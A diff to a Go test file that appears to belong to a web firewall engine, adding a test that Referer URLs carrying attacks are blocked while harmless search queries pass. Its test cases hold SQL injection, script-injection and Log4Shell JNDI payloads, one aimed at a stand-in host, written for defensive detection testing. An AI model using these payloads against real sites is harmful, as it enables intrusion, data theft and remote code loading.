@@ -8,6 +8,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/netip"
+	"net/url"
 	"os"
 	"path/filepath"
 	"slices"
@@ -787,6 +788,40 @@ func TestProtocolHygiene(t *testing.T) {
 		}
 		if tc.rule == "" && d.Blocked || tc.rule != "" && (!d.Blocked || !found) {
 			t.Errorf("%s: blocked %v %v, want rule %q", tc.name, d.Blocked, d.Matches, tc.rule)
+		}
+	}
+}
+
+// TestRefererQuery: another site's page URL sent as the Referer has its
+// query judged value by value, as that site read it; attacks inside it
+// and sent as the Referer itself still block, twice in a row (the second
+// time through the clean-value memo).
+func TestRefererQuery(t *testing.T) {
+	eng := mustEngine(t, Config{})
+	tests := []struct {
+		referer string
+		blocked bool
+	}{
+		{"https://www.bing.com/search?q=%3Cscript%3E+tag+in+html&form=QBLH", false},
+		{"https://www.google.com/search?q=union+select+tutorial&oq=union", false},
+		{"https://duckduckgo.com/?q=what+is+a+%3Cscript%3E+tag&ia=web", false},
+		{"https://app.example.com/reports?where=" + url.QueryEscape("country = 'IE' and revenue > 100"), false},
+		{"https://other.example/?q=%27%20or%201%3D1--", true},
+		{"https://other.example/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", true},
+		{"https://other.example/?a=1&x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", true},
+		{"https://other.example/'%20union%20select%20password%20from%20users--?a=1", true},
+		{"https://other.example/?q=<script>alert(1)</script>", true},
+		{"'><script>alert(1)</script>", true},
+	}
+	for range 2 {
+		for _, tc := range tests {
+			d, err := eng.Inspect(newReq("GET", "http://app.example.com/", "", "", "Referer", tc.referer))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if d.Blocked != tc.blocked {
+				t.Errorf("Referer %s: blocked %v %v, want %v", tc.referer, d.Blocked, d.Matches, tc.blocked)
+			}
 		}
 	}
 }
